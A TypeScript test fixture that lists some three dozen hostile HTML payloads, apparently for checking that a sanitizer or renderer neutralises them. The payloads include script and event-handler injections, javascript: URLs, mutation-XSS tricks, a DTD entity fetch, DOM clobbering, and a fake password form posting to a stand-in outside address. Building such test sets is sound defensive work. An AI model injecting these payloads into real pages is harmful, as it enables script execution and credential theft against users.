import { aHostileText, type HostileText, MARK } from './hostile-text.js';

/** Markup that runs a script, loads something or changes the page once it is taken for HTML. */
export const markup: readonly HostileText[] = [
  aHostileText('script', 'script element', () => `<script>${MARK}</script>`),
  aHostileText('script-src', 'outside script', (at) => `<script src="${at}.js"></script>`),
  aHostileText('script-case', 'script in odd case', () => `<ScRiPt\n>${MARK}</sCrIpT\t>`),
  aHostileText(
    'script-module',
    'module script',
    (at) => `<script type="module">import "${at}.js";${MARK}</script>`,
  ),
  aHostileText('img-onerror', 'image that fails', () => `<img src=x onerror="${MARK}">`),
  aHostileText(
    'img-outside',
    'tracking image',
    (at) => `<img src="${at}.png" srcset="${at}-2.png 2x" width=1 height=1>`,
  ),
  aHostileText('img-backtick', 'unquoted attribute', () => `<img/src=\`x\`/onerror=${MARK}//>`),
  aHostileText('svg-onload', 'SVG that loads', () => `<svg onload="${MARK}"></svg>`),
  aHostileText('svg-script', 'script in SVG', () => `<svg><script>${MARK}</script></svg>`),
  aHostileText(
    'svg-animate',
    'animated link in SVG',
    () =>
      `<svg><a><animate attributeName=href values="javascript:${MARK}"/><text y=20>open</text></a></svg>`,
  ),
  aHostileText(
    'svg-use',
    'outside symbol in SVG',
    (at) => `<svg><use href="${at}.svg#x"/><image href="${at}.png"/></svg>`,
  ),
  aHostileText(
    'iframe-srcdoc',
    'frame with a document',
    () => `<iframe srcdoc="<script>parent.__hostile=true</script>"></iframe>`,
  ),
  aHostileText('iframe-src', 'outside frame', (at) => `<iframe src="${at}"></iframe>`),
  aHostileText(
    'iframe-javascript',
    'frame with a script address',
    () => `<iframe src="javascript:parent.__hostile=true"></iframe>`,
  ),
  aHostileText(
    'object-embed',
    'object and embed',
    (at) => `<object data="${at}.swf"></object><embed src="${at}.swf">`,
  ),
  aHostileText(
    'video-onerror',
    'media that fails',
    (at) => `<video src="${at}.mp4" onerror="${MARK}"></video><audio src=x onerror="${MARK}">`,
  ),
  aHostileText(
    'details-ontoggle',
    'element that toggles',
    () => `<details open ontoggle="${MARK}"><summary>more</summary></details>`,
  ),
  aHostileText(
    'autofocus',
    'focus without a hand',
    () => `<input autofocus onfocus="${MARK}"><body onpageshow="${MARK}">`,
  ),
  aHostileText(
    'marquee',
    'elements with early events',
    () =>
      `<marquee onstart="${MARK}">x</marquee><p onpointerover="${MARK}" style="position:fixed;inset:0">x</p>`,
  ),
  aHostileText(
    'form',
    'form to the outside',
    (at) =>
      `<form action="${at}" method="post"><label>Password <input name="password" type="password"></label><button>Sign in</button></form>`,
  ),
  aHostileText(
    'button-formaction',
    'button with a script',
    () =>
      `<form id=f></form><button form=f formaction="javascript:${MARK}" autofocus>Sign off</button>`,
  ),
  aHostileText('base', 'base of all links', (at) => `<base href="${at}/">`),
  aHostileText(
    'meta-refresh',
    'page that moves on',
    (at) => `<meta http-equiv="refresh" content="0;url=${at}">`,
  ),
  aHostileText(
    'meta-policy',
    'policy of its own',
    (at) => `<meta http-equiv="Content-Security-Policy" content="script-src *; report-uri ${at}">`,
  ),
  aHostileText(
    'link-prefetch',
    'link that is fetched early',
    (at) =>
      `<link rel=prefetch href=${at}><link rel="dns-prefetch" href="${at}"><link rel="preconnect" href="${at}">`,
  ),
  aHostileText(
    'link-style',
    'outside style sheet',
    (at) => `<link rel="stylesheet" href="${at}.css">`,
  ),
  aHostileText(
    'template-shadow',
    'shadow root',
    () =>
      `<div><template shadowrootmode="open"><script>${MARK}</script><slot></slot></template></div>`,
  ),
  aHostileText(
    'title-breakout',
    'end of title and textarea',
    () => `</title></textarea></style></noscript><script>${MARK}</script>`,
  ),
  aHostileText(
    'attribute-breakout',
    'end of an attribute',
    () => `" autofocus onfocus="${MARK}" x="' onmouseover='${MARK}'`,
  ),
  aHostileText(
    'comment',
    'comment that ends early',
    () => `<!--><script>${MARK}</script>--><!-- <img src=x onerror=${MARK}> --!>`,
  ),
  aHostileText(
    'cdata',
    'CDATA and a processing instruction',
    () => `<![CDATA[<script>${MARK}</script>]]><?xml-stylesheet href="javascript:${MARK}"?>`,
  ),
  aHostileText(
    'doctype',
    'document with an entity',
    (at) => `<!DOCTYPE x [<!ENTITY e SYSTEM "${at}.dtd">]><x>&e;</x>`,
  ),
  aHostileText(
    'mutation-noscript',
    'markup that changes when read twice: noscript',
    () => `<noscript><p title="</noscript><img src=x onerror=${MARK}>"></noscript>`,
  ),
  aHostileText(
    'mutation-mathml',
    'markup that changes when read twice: MathML',
    () =>
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${MARK}&gt;">`,
  ),
  aHostileText(
    'mutation-svg',
    'markup that changes when read twice: SVG',
    () => `<svg></p><style><a id="</style><img src=x onerror=${MARK}>">`,
  ),
  aHostileText(
    'entities',
    'markup in character references',
    () =>
      `&lt;script&gt;${MARK}&lt;/script&gt; &#60;img src=x onerror=${MARK}&#62; &#x3c;svg/onload=${MARK}&#x3e;`,
  ),
  aHostileText(
    'clobbering',
    'names that hide the document',
    () =>
      `<form id="document"><input name="cookie"><img name="getElementById"><a id="__hostile" href="x">x</a></form>`,
  ),
];
